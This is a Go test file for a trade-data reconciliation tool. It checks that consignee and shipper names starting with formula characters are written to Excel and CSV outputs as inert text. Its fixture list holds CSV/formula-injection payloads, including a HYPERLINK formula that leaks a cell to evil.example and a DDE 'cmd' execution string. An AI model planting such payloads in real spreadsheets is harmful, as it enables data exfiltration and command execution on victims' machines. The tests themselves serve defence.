package hostile_test

import (
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"tradecheck/reconcile/pipeline"
)

// payloads are company names that a spreadsheet would run as formulas.
var payloads = []string{
	`=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
	`=1+1`,
	`+7 OOO PLUS`,
	`-OOO MINUS`,
	`@SUM(1,2)`,
	`=cmd|' /C calc'!A0`,
}

// TestFormulaInjectionWorkbook: names beginning with = + - @ reach the audit
// workbook as strings, never as formulas, with their text intact.
func TestFormulaInjectionWorkbook(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "hostile.csv")
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Comma = ';'
	w.Write([]string{"Date", "Consignee", "Shipper", "HS code", "Net weight, kg", "Value, USD", "Description"})
	for i, p := range payloads {
		w.Write([]string{"2022-06-0" + itoa(i+1), p, p, "930200", itoa(100 * (i + 1)), "1000", p})
	}
	w.Flush()
	writeBytes(t, in, []byte(b.String()))

	res, err := pipeline.Run(context.Background(), pipeline.NewProject(in), nil)
	if err != nil || len(res.Errors()) != 0 {
		t.Fatalf("pipeline.Run: %v %v", err, res.Errors())
	}
	if len(res.Records) != len(payloads) {
		t.Fatalf("%d records, want %d", len(res.Records), len(payloads))
	}
	out := filepath.Join(dir, "audit.xlsx")
	if err := pipeline.WriteWorkbook(context.Background(), res, out, nil); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenFile(out)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	found := map[string]int{}
	for _, sheet := range x.GetSheetList() {
		rows, err := x.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				formula, _ := x.GetCellFormula(sheet, ref)
				for _, p := range payloads {
					if formula != "" && strings.Contains(formula, strings.TrimLeft(p, "=+-@")) {
						t.Errorf("%s!%s is a formula %q built from the name %q", sheet, ref, formula, p)
					}
					if v == p {
						found[p]++
						if formula != "" {
							t.Errorf("%s!%s holds %q as a formula %q", sheet, ref, p, formula)
						}
						if typ, _ := x.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString && typ != excelize.CellTypeUnset {
							t.Errorf("%s!%s holds %q as cell type %v, want a string", sheet, ref, p, typ)
						}
					}
				}
			}
		}
	}
	for _, p := range payloads {
		if found[p] == 0 {
			t.Errorf("name %q appears nowhere in the workbook with its text intact", p)
		}
	}
}

// TestFormulaInjectionMatchCSV: the match command's CSV output prefixes
// such cells with ' so a spreadsheet opening it shows text.
func TestFormulaInjectionMatchCSV(t *testing.T) {
	dir := t.TempDir()
	in := filepath.Join(dir, "names.csv")
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write([]string{"name", "note"})
	for _, p := range payloads {
		w.Write([]string{p, p})
	}
	w.Write([]string{"-12.5", "a plain negative number stays a number"})
	w.Flush()
	writeBytes(t, in, []byte(b.String()))
	out := filepath.Join(dir, "clusters.csv")
	code, _, stderr := runCLI("match", "-o", out, in)
	if code != 0 {
		t.Fatalf("match exit %d: %s", code, stderr)
	}
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(payloads)+2 {
		t.Fatalf("%d output rows, want %d", len(recs), len(payloads)+2)
	}
	for i, p := range payloads {
		row := recs[i+1]
		for c, v := range row {
			if v != "" && strings.ContainsAny(v[:1], "=+-@") {
				t.Errorf("row %d column %d = %q starts with a formula character", i+2, c+1, v)
			}
		}
		if row[0] != "'"+p || row[1] != "'"+p {
			t.Errorf("row %d = %q, want the name and note as '%s", i+2, row[:2], p)
		}
	}
	if last := recs[len(recs)-1]; last[0] != "-12.5" {
		t.Errorf("plain number written as %q, want -12.5", last[0])
	}
}
